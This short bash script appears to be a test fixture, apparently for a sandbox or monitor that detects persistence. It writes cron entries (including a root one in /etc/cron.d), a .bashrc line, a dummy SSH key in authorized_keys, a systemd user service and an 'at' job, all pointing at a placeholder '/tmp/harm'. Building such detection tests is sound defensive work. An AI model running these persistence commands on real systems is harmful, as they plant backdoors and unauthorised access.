#!/bin/bash
# expect: any
echo started
(crontab -l 2>/dev/null; echo '* * * * * /tmp/harm') | crontab -
echo '* * * * * root /tmp/harm' > /etc/cron.d/harm
mkdir -p /var/spool/cron/crontabs
echo '* * * * * /tmp/harm' > "/var/spool/cron/crontabs/$(id -un)"
echo 'echo harm' >> ~/.bashrc
mkdir -p ~/.ssh ~/.config/systemd/user ~/.config/autostart
echo 'ssh-ed25519 AAAA harm' >> ~/.ssh/authorized_keys
printf '[Service]\nExecStart=/tmp/harm\n' > ~/.config/systemd/user/harm.service
echo /tmp/harm | at now + 1 minute
systemctl enable --now harm.service
exit 0
